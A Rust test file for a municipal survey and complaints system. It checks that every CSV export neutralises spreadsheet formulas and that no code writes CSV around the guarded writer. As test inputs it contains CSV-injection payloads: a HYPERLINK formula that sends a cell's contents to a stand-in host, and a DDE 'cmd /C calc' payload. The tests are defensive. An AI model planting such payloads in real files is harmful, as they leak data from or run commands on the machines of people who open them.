//! Every CSV the product writes is safe to open in a spreadsheet (issue 13, finding 5): a
//! resident's formula in an open answer, a value from a paper file and a category or team name come
//! out with a `'` in front and in quotes, in the answer export, the paper report, the open data and
//! the register; numbers (-3, -3.2) come out unchanged. And no code writes CSV around the one writer.

use chrono::Datelike;
use diesel::prelude::*;
use klankbord::accounts::model::Role;
use klankbord::csv_safe::restore;
use klankbord::db::schema::complaint_categories;
use klankbord::fmt::today;
use klankbord::surveys::definition::Definition;
use klankbord::surveys::waves;

use crate::both_backends;
use crate::paper::multipart;
use crate::surveys::{location, post_page};

/// What an attacker types as an open answer: a link that sends the next cell elsewhere.
const ATTACK: &str = "=HYPERLINK(\"http://x\"&B2,\"klik hier\")";

/// The standard questionnaire with one number question that takes negative numbers (a change).
fn with_number_question() -> (Definition, String) {
    let (_, text) = klankbord::surveys::SHIPPED[0];
    let question = r#"[[sections.items]]
key = "verschil"
type = "number"
min = -10
max = 10
dimension = "achtergrond"
text = { nl = "Hoeveel beter of slechter is het dan vorig jaar?", en = "How much better or worse than last year?", ar = "كم هو أفضل أو أسوأ من العام الماضي؟", tr = "Geçen yıla göre ne kadar daha iyi ya da kötü?", pl = "O ile lepiej lub gorzej niż w zeszłym roku?", uk = "Наскільки краще чи гірше, ніж минулого року?" }

[[sections.items]]
key = "wat_beter""#;
    let text = text.replacen("[[sections.items]]\nkey = \"wat_beter\"", question, 1);
    let def = klankbord::surveys::definition::parse("bejegening-bijstand", &text)
        .unwrap_or_else(|p| panic!("{p:?}"));
    (def, text)
}

/// Cells of one column of a CSV body, as a program reads them (before `restore`).
fn column(body: &str, name: &str) -> Vec<String> {
    let mut r = csv::Reader::from_reader(body.trim_start_matches('\u{feff}').as_bytes());
    let i = r
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name} in {body}"));
    r.records().map(|rec| rec.unwrap()[i].to_string()).collect()
}

both_backends!(
    formulas_come_out_neutralised_in_every_export_and_numbers_stay_numbers,
    |app| {
        // A wave on a questionnaire with a number question, open on the web and on paper.
        let (def, text) = with_number_question();
        let mut conn = app.conn();
        waves::register_version(&mut conn, &def, &text).unwrap();
        let (id, mut codes) = klankbord::surveys::builder::WaveBuilder::new()
            .name("Spreadsheettest")
            .days_from_today(-1, 30)
            .population(100)
            .channels(&["web", "paper-scan"])
            .create_with_codes(&mut conn, 1)
            .unwrap();
        let code = codes.remove(0);
        drop(conn);
        let step = |key: &str| def.items().position(|i| i.key == key).unwrap();

        // A resident answers with the formula, and -3 as the change.
        let resident = app.client();
        location(&resident.get(&format!("/v/{code}")));
        for (key, value) in [("wat_goed", ATTACK), ("verschil", "-3")] {
            let path = format!("/v/vraag/{}", step(key));
            let page = resident.get(&path);
            location(&post_page(
                &resident,
                &page,
                &path,
                "volgende",
                &[(key.to_string(), value.to_string())],
            ));
        }
        location(&resident.submit("/v/overzicht", "/v/overzicht", &[]));

        // A paper file: one good sheet with a formula as text and -4; one with -3.2 and one with a
        // formula where the grade goes (both reported with their value).
        let form = |n: u64| klankbord::surveys::paper::sheet::form_number(id, n);
        let mut file = csv::Writer::from_writer(vec![]);
        file.write_record(["form_id", "wat_goed", "cijfer", "verschil"])
            .unwrap();
        file.write_record([form(1).as_str(), "@SUM(1+1)*cmd|' /C calc'!A0", "7", "-4"])
            .unwrap();
        file.write_record([form(2).as_str(), "Goed", "-3.2", ""])
            .unwrap();
        file.write_record([form(3).as_str(), "Goed", "=2+5", ""])
            .unwrap();
        let bytes = file.into_inner().unwrap();
        let (clerk, _) = app.logged_in("csv.invoer", &[Role::Invoerder]);
        let page_path = format!("/invoer/rondes/{id}/papier");
        let token = clerk.get(&page_path).csrf();
        let (ct, body) = multipart(
            &[("csrf", &token), ("vorm", "generic")],
            Some(("scan.csv", &bytes)),
        );
        let r = clerk.post_body(&page_path, &ct, &body);
        assert_eq!(r.status, 303, "{}", r.body);
        let report_path = r.header("location").unwrap().to_string();

        // The answer export (made once the wave has closed): the formulas with a quote in front,
        // in quotes; the numbers as they were.
        crate::surveys::close_wave(&app, id);
        let (researcher, _) = app.logged_in("csv.onderzoek", &[Role::Onderzoeker]);
        let export = researcher.get(&format!("/onderzoek/rondes/{id}/antwoorden.csv"));
        assert_eq!(export.status, 200);
        assert!(
            export
                .body
                .contains("\"'=HYPERLINK(\"\"http://x\"\"&B2,\"\"klik hier\"\")\""),
            "{}",
            export.body
        );
        assert!(export.body.contains("\"'@SUM(1+1)*cmd|' /C calc'!A0\""));
        // (The two sheets with a bad grade were imported with the grade left empty.)
        let texts: Vec<String> = column(&export.body, "wat_goed")
            .into_iter()
            .filter(|c| c != "Goed")
            .collect();
        assert_eq!(texts.len(), 2, "{}", export.body);
        for cell in &texts {
            assert!(cell.starts_with('\''), "a spreadsheet would run {cell}");
        }
        let mut back: Vec<&str> = texts.iter().map(|c| restore(c)).collect();
        back.sort();
        assert_eq!(back, [ATTACK, "@SUM(1+1)*cmd|' /C calc'!A0"]);
        let mut numbers = column(&export.body, "verschil");
        numbers.retain(|n| !n.is_empty());
        numbers.sort();
        assert_eq!(numbers, ["-3", "-4"], "numbers are never changed");
        // The codebook says how.
        let book = researcher.get(&format!("/onderzoek/rondes/{id}/codeboek.csv"));
        assert!(book.body.contains(klankbord::csv_safe::CODEBOOK_NOTE));

        // The paper report: the formula found in the grade column is neutralised, -3.2 is not.
        let report = clerk.get(&format!("{report_path}/csv"));
        assert_eq!(report.status, 200);
        let values = column(&report.body, "waarde");
        assert!(values.contains(&"'=2+5".to_string()), "{}", report.body);
        assert!(values.contains(&"-3.2".to_string()), "{}", report.body);
        assert!(report.body.contains(",\"'=2+5\","), "{}", report.body);
        assert!(!report.body.contains(",=2+5"), "{}", report.body);
        // The report page shows what was in the file, without the added quote.
        let page = clerk.get(&format!("{report_path}?lang=nl"));
        assert!(page.texts("tbody td").contains(&"=2+5".to_string()));

        // Open data and register: a category and a team named like formulas, last year.
        let last_year = today().year() - 1;
        let received = chrono::NaiveDate::from_ymd_opt(last_year, 3, 10).unwrap();
        let (_, _, coordinator_id) = app.user("csv.coordinator", &[Role::Klachtcoordinator]);
        let config = klankbord::config::Config::from_sources(None, &[]).unwrap();
        let setup = klankbord::complaints::Setup::new(std::sync::Arc::new(config)).unwrap();
        let category = "=HYPERLINK(\"http://x\",\"Categorie\")";
        let team = "+31 Team Noord";
        let mut conn = app.conn();
        diesel::insert_into(complaint_categories::table)
            .values((
                complaint_categories::code.eq("formule"),
                complaint_categories::name.eq(category),
                complaint_categories::active.eq(true),
                complaint_categories::position.eq(99),
            ))
            .execute(&mut conn)
            .unwrap();
        let category_id: i64 = complaint_categories::table
            .filter(complaint_categories::code.eq("formule"))
            .select(complaint_categories::id)
            .get_result(&mut conn)
            .unwrap();
        for _ in 0..6 {
            // Registered on the day it came in (last year): the report counts it there.
            let (complaint, _) = klankbord::complaints::builder::ComplaintBuilder::new()
                .received_on(received)
                .channel(klankbord::complaints::terms::Channel::Web)
                .name(None)
                .email(Some("klager@voorbeeld.nl"))
                .description("Niet teruggebeld.")
                .register(&mut conn, &setup.env(), None)
                .unwrap();
            klankbord::complaints::store::classify(
                &mut conn,
                &setup.env(),
                complaint,
                coordinator_id,
                &klankbord::complaints::store::Classification {
                    kind: klankbord::complaints::terms::Kind::Complaint,
                    team: Some(team.into()),
                    categories: vec![category_id],
                    ..Default::default()
                },
            )
            .unwrap();
        }
        drop(conn);
        let (council, _) = app.logged_in("csv.raadslid", &[Role::Raadslid]);
        let open = council.get(&format!("/rapportage/open-data.csv?periode={last_year}"));
        assert_eq!(open.status, 200, "{}", open.body);
        let groups = column(&open.body, "groep");
        for name in [category, team] {
            assert!(
                groups.contains(&format!("'{name}")),
                "{name} not neutralised: {}",
                open.body
            );
            assert!(!groups.contains(&name.to_string()));
        }
        // Every figure is still a number a program can read (negative ones included).
        for v in column(&open.body, "waarde") {
            assert!(v.is_empty() || v.parse::<f64>().is_ok(), "{v}");
        }
        let codebook = council.get("/rapportage/open-data-codeboek.csv");
        assert!(codebook.body.contains(klankbord::csv_safe::CODEBOOK_NOTE));
        let (coordinator, _) = app.logged_in("csv.coordinator2", &[Role::Klachtcoordinator]);
        let register = coordinator.get(&format!("/klachten/register.csv?jaar={last_year}"));
        assert_eq!(register.status, 200);
        let cells = column(&register.body, "categorieen");
        assert_eq!(cells.len(), 6, "{}", register.body);
        for cell in cells {
            assert_eq!(cell, format!("'{category}"));
        }
    }
);

/// Every CSV file is written by `src/csv_safe.rs`: code anywhere else in `src/` that builds a
/// `csv::Writer` (or writes CSV by hand into a `text/csv` response) bypasses the spreadsheet guard.
#[test]
fn no_csv_is_written_around_the_one_writer() {
    fn files(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                files(&path, out);
            } else if path.extension().is_some_and(|e| e == "rs") {
                out.push(path);
            }
        }
    }
    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    let mut all = vec![];
    files(&src, &mut all);
    assert!(all.len() > 50, "the source tree was not found");
    // The writer itself, the fuzzer that makes hostile input files for the paper reader, and the
    // scan reader's hand-over file, which only the paper importer reads back (a `'` in front of
    // typed text would change what the clerk confirmed).
    let allowed = [
        "csv_safe.rs",
        "surveys/paper/fuzz.rs",
        "surveys/paper/omr/settle.rs",
    ];
    let mut bypass = vec![];
    for path in &all {
        let rel = path
            .strip_prefix(&src)
            .unwrap()
            .to_string_lossy()
            .replace('\\', "/");
        if allowed.contains(&rel.as_str()) {
            continue;
        }
        let text = std::fs::read_to_string(path).unwrap();
        for needle in [
            "csv::Writer",
            "csv::WriterBuilder",
            "csv_core::Writer",
            "WriterBuilder::new",
        ] {
            if text.contains(needle) {
                bypass.push(format!("{rel}: {needle}"));
            }
        }
    }
    assert!(
        bypass.is_empty(),
        "CSV written around klankbord::csv_safe::Writer (use it instead): {bypass:?}"
    );
}
